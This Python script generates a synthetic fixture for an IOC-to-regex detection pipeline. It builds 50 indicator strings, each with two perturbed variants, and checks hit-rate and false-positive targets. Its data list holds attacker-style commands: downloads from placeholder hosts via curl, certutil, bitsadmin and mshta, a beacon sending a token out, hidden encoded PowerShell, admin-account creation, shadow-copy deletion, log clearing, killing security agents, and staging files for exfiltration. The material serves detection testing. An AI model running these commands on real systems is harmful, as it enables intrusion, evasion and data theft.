#!/usr/bin/env python3
"""Generate the synthetic end-to-end fixture: 50 IOCs + 150 ground truths.

Each IOC contributes three ground-truth variants: the string itself plus two
perturbations of its mutable parts (renamed payloads, different usernames,
shuffled argument values).  Truth capture groups are frozen from the capture
finder over the starter knowledge base.  Before writing, the script runs the
pipeline's generate and evaluate on the fixture in a temporary directory,
with the default configuration (the template backend), checks the fixture's
quality targets (hit rate, mean FPR) in the report, and prints the achieved
numbers.

Run from the repository root:  python3 scripts/gen_e2e_fixture.py
"""

import json
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "src"))

from ioc2regex import (
    PipelineConfig, annotate, default_store, make_record, run_evaluate, run_generate,
)

OUT_DIR = Path(__file__).parent.parent / "tests" / "data"
DATASET = "synthetic-e2e"

# (template, [mutable slot values for variant 0 (the IOC itself), 1, 2])
# Slot markers {0} {1} ... are replaced per variant.
SPECS = [
    # file paths ---------------------------------------------------------
    (r"C:\Users\Public\{0}", [["klmn01.bat"], ["zeta7.bat"], ["drop9x.exe"]]),
    (r"C:\Users\Public\{0}", [["opal12.vbs"], ["mint55.js"], ["ivory3.hta"]]),
    (r"C:\Users\{0}\AppData\Local\Temp\{1}",
     [["kmitnick.hospitality", "adb156.exe"], ["pbeesly", "qoft22.dll"], ["dschrute", "wz88.exe"]]),
    (r"C:\Users\{0}\AppData\Local\Temp\{1}",
     [["gmalone", "stage2.tmp"], ["hokage", "stage5.tmp"], ["mscott", "stage9.tmp"]]),
    (r"C:\Users\{0}\Desktop\{1}",
     [["pam", "rcs.3aka3.doc"], ["jhalpert", "notes_x.doc"], ["kmalone", "draft77.doc"]]),
    (r"C:\Users\{0}\Downloads\{1}",
     [["pam", "installer9.msi"], ["creed", "bundle3.msi"], ["tobyf", "setup44.msi"]]),
    (r"C:\Users\{0}\Documents\{1}",
     [["angela", "ledger0.xlsm"], ["oscarm", "sheet12.xlsm"], ["kevinm", "macro8.xlsm"]]),
    (r"C:\Users\Default\{0}", [["probe1.cfg"], ["probe2.cfg"], ["probe3.cfg"]]),
    (r"C:\ProgramData\Microsoft\Windows\StartMenu\Programs\StartUp\{0}",
     [["persist4.lnk"], ["persist6.lnk"], ["laylow2.lnk"]]),
    (r"C:\ProgramData\Microsoft\Windows Defender\{0}",
     [["quardump1.dat"], ["quardump2.dat"], ["holdfile8.dat"]]),
    (r"C:\Windows\Temp\{0}", [["gather31.log"], ["gather77.log"], ["stash21.log"]]),
    (r"C:\Windows\Temp\{0}", [["kb9912.cab"], ["kb4410.cab"], ["kb7305.cab"]]),
    (r"C:\Windows\System32\{0}", [["certutil.exe"], ["pscp.exe"], ["psexesvc.exe"]]),
    (r"C:\Windows\SysWOW64\{0}", [["shim32a.dll"], ["shim32b.dll"], ["hookc7.dll"]]),
    (r"C:\Windows\Microsoft.NET\Framework\{0}",
     [["ivory3.dll"], ["jade12.dll"], ["onyx88.dll"]]),
    (r"C:\Program Files\Common Files\{0}",
     [["svchelper.ocx"], ["extplug7.ocx"], ["formlib2.ocx"]]),
    # registry keys ------------------------------------------------------
    (r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\{0}",
     [["Updater7"], ["SyncHelper"], ["CloudNotify"]]),
    (r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\{0}",
     [["OfficeCheck"], ["DriverPoll"], ["HealthMon"]]),
    (r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce\{0}",
     [["Bootstrap1"], ["Bootstrap2"], ["FirstLogon"]]),
    (r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\{0}",
     [["TelemetrySvc"], ["UpdateBroker"], ["HostAgent"]]),
    (r"HKLM\System\CurrentControlSet\Services\{0}",
     [["WinSockMon"], ["KmDfLt5"], ["EvtFwd9"]]),
    (r"HKLM\System\CurrentControlSet\Services\{0}",
     [["PortProxySvc"], ["TimeSyncX"], ["BridgeSvc2"]]),
    (r"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\{0}",
     [["Shell"], ["Userinit"], ["Taskman"]]),
    (r"HKCU\Software\Classes\{0}", [["mscfile"], ["htafile"], ["exefile"]]),
    (r"HKCU\Environment\{0}", [["windir"], ["Path"], ["ComSpec"]]),
    (r"HKLM\System\CurrentControlSet\Control\Lsa\{0}",
     [["RestrictAnonymous"], ["LmHash"], ["NoLmHash"]]),
    # command lines ------------------------------------------------------
    ('schtasks /create /s {0} /u "<username>" /p "<password>" /ru "SYSTEM" '
     '/tn {1} /sc DAILY /tr "c:\\tasks\\{2}" /F',
     [["srv01.example", "one", "klmn01.bat"],
      ["srv14.example", "two", "zeta7.bat"],
      ["wkst9.example", "sixjob", "drop9x.bat"]]),
    ('schtasks /create /tn {0} /tr "c:\\tasks\\{1}" /sc DAILY /f',
     [["backup7", "ivory3.bat"], ["cleanup2", "mint55.bat"], ["probe5", "opal12.bat"]]),
    ("cmd /c whoami{0}", [[""], [" /upn"], [" /fqdn"]]),
    ("cmd /k c:\\drops\\{0}", [["boot4.bat"], ["boot7.bat"], ["stage1.bat"]]),
    ("whoami /all /priv{0}", [[""], [" /fo table"], [" /fo list"]]),
    ("curl --silent --output c:\\drops\\{0} --url http://dl.zone-a.example/{0}",
     [["pack1.bin"], ["pack2.bin"], ["pack9.bin"]]),
    ("curl --get --data token={0} --url http://dl.zone-x.example/beacon",
     [["abc123"], ["qrs789"], ["jkl456"]]),
    ("powershell -noprofile -executionpolicy bypass -file c:\\drops\\{0}",
     [["collect9.ps1"], ["collect3.ps1"], ["sweepA.ps1"]]),
    ("powershell -windowstyle hidden -encodedcommand {0}",
     [["aGVsbG8gd29ybGQ="], ["d2F2ZSBoaSBtb20="], ["c2xvdyBkYXkgaHVo"]]),
    ("certutil -urlcache -split -f http://dl.zone-c.example/{0} c:\\drops\\{0}",
     [["seed.bin"], ["blob7.bin"], ["pkg31.bin"]]),
    (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {0} /t REG_SZ "
     r"/d c:\drops\{1} /f",
     [["Updater7", "upd7.exe"], ["SyncHelper", "sync2.exe"], ["CloudNotify", "cn3.exe"]]),
    (r"reg query HKLM\System\CurrentControlSet\Services{0} /s",
     [[""], [r"\WinSockMon"], [r"\EvtFwd9"]]),
    ('wmic /node {0} /user {1} process call create "c:\\drops\\{2}"',
     [["srv02.example", "backupadm", "wq5.exe"],
      ["srv08.example", "opsadm", "wq9.exe"],
      ["wkst2.example", "deskadm", "mon3.exe"]]),
    ("net user {0} {1} /add", [["svcmon", "Passw0rd1"], ["auditbot", "S3cr3t22"],
                               ["patchbot", "T0pn0tch9"]]),
    ("net localgroup administrators {0} /add",
     [["svcmon"], ["auditbot"], ["patchbot"]]),
    ("vssadmin delete shadows /all /quiet{0}", [[""], [" /for=c:"], [" /for=d:"]]),
    ("taskkill /im {0} /f", [["monagent.exe"], ["avwatch.exe"], ["edrproc.exe"]]),
    ("wevtutil cl {0}", [["Security"], ["System"], ["Application"]]),
    ("bitsadmin /transfer {0} http://dl.zone-d.example/{1} c:\\drops\\{1}",
     [["drop19", "d19.bin"], ["drop23", "d23.bin"], ["drop41", "d41.bin"]]),
    ("xcopy /s /e c:\\drops\\{0} d:\\exfil\\{0} /y",
     [["stage"], ["bundle"], ["vault"]]),
    ("regsvr32 /s c:\\drops\\{0}", [["lib9.dll"], ["lib4.dll"], ["shell8.dll"]]),
    ("mshta http://dl.zone-e.example/{0}", [["frame.hta"], ["panel.hta"], ["grid.hta"]]),
    ("wscript //b //e:jscript c:\\drops\\{0}",
     [["loader2.js"], ["loader6.js"], ["probe8.js"]]),
    ("findstr /i /m {0} c:\\drops\\*.txt",
     [["secretkey"], ["apitoken"], ["passphrase"]]),
]


def build() -> tuple[list[dict], list[dict]]:
    store = default_store()
    iocs: list[dict] = []
    truths: list[dict] = []

    for n, (template, variant_slots) in enumerate(SPECS):
        source_id = f"e2e-{n:03d}"
        texts = [template.format(*slots) for slots in variant_slots]
        ioc_text = texts[0]
        iocs.append({"text": ioc_text, "source_id": source_id})

        src_record = make_record(ioc_text, store, source_id=source_id)
        assert src_record.kind.value != "other", ioc_text
        src_groups = sorted(
            c.casefold() for c in annotate(src_record, store).keep_components
        )
        assert src_groups, f"no capture groups for {ioc_text!r}"

        for text in texts:
            record = make_record(text, store)
            assert record.kind == src_record.kind, (ioc_text, text)
            groups = sorted(
                c.casefold() for c in annotate(record, store).keep_components
            )
            assert groups == src_groups, (ioc_text, text, groups, src_groups)
            truths.append(
                {
                    "text": text,
                    "kind": record.kind.value,
                    "capture_groups": groups,
                    "dataset_id": DATASET,
                }
            )
    return iocs, truths


def write(path: Path, payload: list[dict]) -> None:
    path.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8")


def verify(iocs: list[dict], truths: list[dict]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        write(tmp / "iocs.json", iocs)
        write(tmp / "truths.json", truths)
        summary = run_generate(PipelineConfig(
            input_path=str(tmp / "iocs.json"), output_path=str(tmp / "products.json")
        ))
        assert summary["generated"] == 50, summary
        payload = run_evaluate(tmp / "products.json", tmp / "truths.json", tmp / "report.json")
    assert "invalid" not in payload, payload["invalid"]
    [report] = payload["reports"]
    print(f"IOCs: {len(iocs)}  truths: {len(truths)}")
    print(f"hit rate: {report['hit_rate']:.3f}  mean FPR: {report['mean_fpr']:.4f}")
    offenders = [(rid, v) for rid, v in report["per_regex_fpr"] if v]
    if offenders:
        print("regexes with nonzero FPR:", offenders)
    assert report["hit_rate"] >= 0.95, "fixture misses its own hit-rate target"
    assert report["mean_fpr"] <= 0.05, "fixture exceeds its own FPR target"


def main() -> None:
    iocs, truths = build()
    assert len(iocs) == 50, len(iocs)
    assert len(truths) == 150, len(truths)
    verify(iocs, truths)
    OUT_DIR.mkdir(parents=True, exist_ok=True)
    write(OUT_DIR / "e2e_iocs.json", iocs)
    write(OUT_DIR / "e2e_truths.json", truths)
    print(f"wrote {OUT_DIR / 'e2e_iocs.json'} and {OUT_DIR / 'e2e_truths.json'}")


if __name__ == "__main__":
    main()
